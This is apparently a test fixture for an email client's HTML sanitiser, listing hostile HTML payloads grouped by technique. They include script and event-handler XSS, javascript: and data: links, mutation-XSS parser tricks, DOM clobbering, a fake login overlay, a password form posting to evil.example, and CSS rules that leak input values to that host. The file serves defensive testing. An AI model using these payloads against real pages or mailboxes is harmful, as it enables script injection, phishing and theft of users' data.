/**
 * Letters that try to do harm in the reader's browser: what is known from lists of such tricks (OWASP, the tests of sanitisers), and what
 * mail brings in particular. Each begins with `<p>đầu</p>`, so that a test sees that it was shown; a trick that works sets `hit` on the
 * page, asks another place for something, or leads elsewhere.
 */
const HIT = 'top.hit=1;parent.hit=1;window.hit=1';
const ELSEWHERE = 'https://evil.example';

export const HOSTILE: readonly { name: string; html: string }[] = [
  { name: 'script', html: `<script>${HIT}</script><script src="${ELSEWHERE}/x.js"></script>` },
  {
    name: 'handlers',
    html: `<img src=x onerror="${HIT}"><body onload="${HIT}"><details open ontoggle="${HIT}">x</details><p onclick="${HIT}">x</p><input autofocus onfocus="${HIT}"><video src=x onerror="${HIT}"></video><marquee onstart="${HIT}">x</marquee>`,
  },
  {
    name: 'links',
    html: `<a href="javascript:${HIT}">x</a><a href="JaVa&#x09;Script:${HIT}">x</a><a href="data:text/html,<script>${HIT}</script>">x</a><a href="vbscript:x">x</a><map name=m><area href="javascript:${HIT}" shape=rect coords="0,0,9,9"></map>`,
  },
  {
    name: 'frames',
    html: `<iframe src="javascript:${HIT}"></iframe><iframe srcdoc="<script>${HIT}</script>"></iframe><object data="data:text/html,<script>${HIT}</script>"></object><embed src="${ELSEWHERE}/x.swf"><portal src="${ELSEWHERE}"></portal>`,
  },
  {
    name: 'svg',
    html: `<svg onload="${HIT}"><script>${HIT}</script><animate onbegin="${HIT}" attributeName=x dur=1s><a xlink:href="javascript:${HIT}"><text>x</text></a><foreignObject><iframe srcdoc="<script>${HIT}</script>"></iframe></foreignObject><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${HIT}</script></svg>#x"></use></svg>`,
  },
  {
    name: 'math',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;"></mglyph></table></mtext></math><math href="javascript:${HIT}">x</math>`,
  },
  {
    name: 'namespaces',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${HIT}"><noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript><svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
  },
  {
    name: 'forms',
    html: `<form action="${ELSEWHERE}/steal"><input name=password type=password><button>Đăng nhập</button></form><button formaction="javascript:${HIT}">x</button><isindex action="javascript:${HIT}">`,
  },
  {
    name: 'page',
    html: `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><base href="${ELSEWHERE}/"><link rel=stylesheet href="${ELSEWHERE}/x.css"><link rel=prefetch href="${ELSEWHERE}/p"><a href="/x">x</a>`,
  },
  {
    name: 'pictures',
    html: `<img src="${ELSEWHERE}/pixel.gif"><img srcset="${ELSEWHERE}/2x.gif 2x"><picture><source srcset="${ELSEWHERE}/s.gif"><img src="${ELSEWHERE}/t.gif"></picture><table background="${ELSEWHERE}/b.gif"><tr><td>x</td></tr></table><video poster="${ELSEWHERE}/p.gif"></video><audio src="${ELSEWHERE}/a.mp3" autoplay></audio><input type=image src="${ELSEWHERE}/i.gif"><image src="${ELSEWHERE}/im.gif">`,
  },
  {
    name: 'styles',
    html: `<style>@import url(${ELSEWHERE}/i.css);p{background:url(${ELSEWHERE}/c.gif)}@font-face{font-family:x;src:url(${ELSEWHERE}/f.woff)}p{font-family:x}</style><p style="background-image:url('${ELSEWHERE}/s.gif');behavior:url(x.htc);width:expression(${HIT})">x</p><div style="list-style:url(${ELSEWHERE}/l.gif);cursor:url(${ELSEWHERE}/k.cur),auto">x</div>`,
  },
  {
    name: 'covering',
    html: `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Phiên làm việc đã hết. <a href="${ELSEWHERE}">Đăng nhập lại</a></div>`,
  },
  {
    name: 'clobbering',
    html: `<form id=attributes><input name=removeChild></form><img name=body><a id=location href="${ELSEWHERE}"></a><form name=documentElement></form><input id=hit><a id=defaultView></a>`,
  },
  {
    name: 'opening',
    html: `<a href="${ELSEWHERE}" target="_top">x</a><a href="${ELSEWHERE}" target="_self" ping="${ELSEWHERE}/ping">x</a><a href="/sign-out" target="_parent">x</a>`,
  },
  {
    name: 'unclosed',
    html: `<p title="><img src=x onerror=${HIT}><!--><script>${HIT}//--></script><textarea><title></textarea><img src=x onerror=${HIT}>`,
  },
  {
    name: 'mutating',
    html: `<svg></p><style><a title="</style><img src=x onerror=${HIT}>"></a></style></svg><math><annotation-xml encoding="text/html"><style><img src=x onerror="${HIT}"></style></annotation-xml></math><table><svg><title><style><!--</style></title><desc><img src=x onerror="${HIT}"></desc></svg></table><select><template><style><!--</style><a title="--><img src=x onerror=${HIT}>"></template></select><math><mi><mglyph><svg><mtext><style><path id="</style><img src=x onerror=${HIT}>"></math>`,
  },
  {
    name: 'raw text',
    html: `<xmp><p title="</xmp><img src=x onerror=${HIT}>"></xmp><noembed><p title="</noembed><img src=x onerror=${HIT}>"></noembed><noframes><p title="</noframes><img src=x onerror=${HIT}>"></noframes><iframe><p title="</iframe><img src=x onerror=${HIT}>"></iframe><title><img src=x onerror="${HIT}"></title><comment><img src=x onerror="${HIT}"></comment>`,
  },
  {
    name: 'shadows',
    html: `<div><template shadowrootmode=open><img src=x onerror="${HIT}"><form action="${ELSEWHERE}"><button>x</button></form><slot></slot></template></div><template><img src=x onerror="${HIT}"></template><dialog open>x<form method=dialog><button>x</button></form></dialog><button popovertarget=p>x</button><div popover id=p onbeforetoggle="${HIT}">x</div><x-element onclick="${HIT}" contenteditable autofocus onfocus="${HIT}">x</x-element>`,
  },
  {
    name: 'animations',
    html: `<svg><a><animate attributeName=href values="javascript:${HIT}"></animate><text y=20>x</text></a><a><set attributeName="xlink:href" to="javascript:${HIT}"></set><text>x</text></a><image href="${ELSEWHERE}/svg.gif"></image><filter id=f><feImage href="${ELSEWHERE}/fe.gif"></feImage></filter><rect filter="url(${ELSEWHERE}/f.svg#f)" fill="url(${ELSEWHERE}/p.svg#p)" width=9 height=9 /><style>@import "${ELSEWHERE}/svg.css";</style><script href="${ELSEWHERE}/x.js"></script><handler>${HIT}</handler></svg>`,
  },
  {
    name: 'data addresses',
    html: `<iframe src="data:text/html,<script>${HIT}</script>"></iframe><a href=" data:text/html;base64,PHNjcmlwdD50b3AuaGl0PTE8L3NjcmlwdD4=">x</a><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HIT}'><image href='${ELSEWHERE}/in.gif'/></svg>"><link rel=stylesheet href="data:text/css,@import '${ELSEWHERE}/d.css'"><object type="text/html" data="data:text/html,<script>${HIT}</script>"></object><a href="blob:${ELSEWHERE}/1">x</a><a href="filesystem:x">x</a><a href="\u0001javascript:${HIT}">x</a>`,
  },
  {
    name: 'formulas',
    html: `<math><maction actiontype="statusline#${ELSEWHERE}" xlink:href="javascript:${HIT}"><mtext>x</mtext></maction><mrow href="javascript:${HIT}"><mtext>x</mtext></mrow><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="javascript:${HIT}"></iframe></annotation-xml></semantics></math>`,
  },
  {
    name: 'reading by style',
    html: `<input name=ma value="123456"><style>input[value^="1"]{background:url(${ELSEWHERE}/1)}input:valid{border-image:url(${ELSEWHERE}/b) 1}@font-face{font-family:q;src:url(${ELSEWHERE}/u);unicode-range:U+0041}body{font-family:q}p::before{content:url(${ELSEWHERE}/c)}p{mask:url(${ELSEWHERE}/m);-webkit-mask:url(${ELSEWHERE}/wm);filter:url(${ELSEWHERE}/f#f);shape-outside:url(${ELSEWHERE}/so);background:image-set("${ELSEWHERE}/is" 1x);background-image:-webkit-image-set(url(${ELSEWHERE}/wis) 1x)}@media print{p{background:url(${ELSEWHERE}/print)}}@namespace x url(${ELSEWHERE}/n);:root{--u:url(${ELSEWHERE}/v)}p{background:var(--u)}</style><p style="background:var(--u);mask-image:url(//evil.example/pm);content:'\\75\\72\\6c(${ELSEWHERE}/e)';background:u\\72l(${ELSEWHERE}/esc)">A</p>`,
  },
  {
    name: 'commands to the page',
    html: `<meta http-equiv="Refresh" content="0; URL='${ELSEWHERE}'"><meta http-equiv="Content-Security-Policy" content="default-src *"><meta http-equiv="Set-Cookie" content="a=b"><meta name="referrer" content="unsafe-url"><link rel="manifest" href="${ELSEWHERE}/m"><link rel="preload" as="image" imagesrcset="${ELSEWHERE}/ps 1x"><link rel="modulepreload" href="${ELSEWHERE}/mp.js"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${ELSEWHERE}/sr"]}]}</script><html manifest="${ELSEWHERE}/am"><body background="${ELSEWHERE}/bg" onhashchange="${HIT}"><th background="${ELSEWHERE}/th">x</th><video><track src="${ELSEWHERE}/t.vtt" default><source src="${ELSEWHERE}/v.mp4"></video><bgsound src="${ELSEWHERE}/s"><layer src="${ELSEWHERE}/l"></layer><keygen onfocus="${HIT}" autofocus>`,
  },
];
